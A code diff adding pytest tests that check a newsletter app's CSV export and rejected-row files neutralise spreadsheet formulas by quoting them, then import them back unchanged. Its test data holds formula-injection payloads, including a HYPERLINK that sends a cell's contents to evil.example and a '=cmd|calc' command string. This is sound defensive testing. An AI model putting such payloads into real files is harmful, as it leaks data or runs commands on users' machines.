@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import delete, select
 from sqlalchemy.orm import Session, sessionmaker
 
 from newsletter.database import transaction
+from subscribers import consent, exporter, people
 from subscribers.csvfile import CsvFileError
 from subscribers.importer import CUT_OFF, import_csv
 from subscribers.models import Subscriber
@@ -67,3 +69,50 @@ def test_windows_1252_text_from_excel_keeps_its_curly_quotes_and_euro_sign(
         "z@example.org": "Zo\u00eb",
         "odd@example.org": "A\x81B",  # undefined in Windows-1252: read as Latin-1
     }
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1 Ann", "-Bo", "@SUM(A1)"]
+
+
+def _cells(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_exports_quote_formulas_and_import_back_unchanged(
+    sessions: sessionmaker[Session], tmp_path: Path
+) -> None:
+    staff = consent.Context(form="cli:test")
+    with transaction(sessions) as s:
+        for i, name in enumerate(FORMULAS):
+            people.add(s, f"p{i}@example.org", staff, name=name, topics=["-Left", "Ukraine"])
+        people.add(s, "-dash@example.org", staff, name="Plain")
+        out = tmp_path / "out.csv"
+        exporter.export_csv(s, out)
+    rows = _cells(out)[1:]
+    assert [row[1] for row in rows] == [f"'{name}" for name in FORMULAS] + ["Plain"]
+    assert rows[0][3] == "'-Left;Ukraine" and rows[-1][0] == "'-dash@example.org"
+    with transaction(sessions) as s:
+        s.execute(delete(Subscriber))
+    summary = import_csv(sessions, out)
+    assert summary.added == 5 and not summary.skipped
+    with transaction(sessions) as s:
+        again = {
+            p.email: (p.name, [m.name for m in people.subscribed_lists(s, p)])
+            for p in s.scalars(select(Subscriber))
+        }
+    assert again["p0@example.org"] == (FORMULAS[0], ["-Left", "Ukraine"])
+    assert again["-dash@example.org"][0] == "Plain"
+    assert [again[f"p{i}@example.org"][0] for i in range(1, 4)] == FORMULAS[1:4]
+
+
+def test_rejected_rows_are_written_with_formulas_quoted(
+    sessions: sessionmaker[Session], tmp_path: Path
+) -> None:
+    source = tmp_path / "in.csv"
+    source.write_text('email,=name,x\n=cmd|calc,"@SUM(1)","\t=1"\nok@example.org,Ok,\n')
+    summary = import_csv(sessions, source)
+    assert summary.errors_path is not None
+    header, row = _cells(summary.errors_path)
+    assert header == ["line", "reason", "email", "'=name", "x"]
+    assert row[0] == "2" and row[2:] == ["'=cmd|calc", "'@SUM(1)", "'\t=1"]
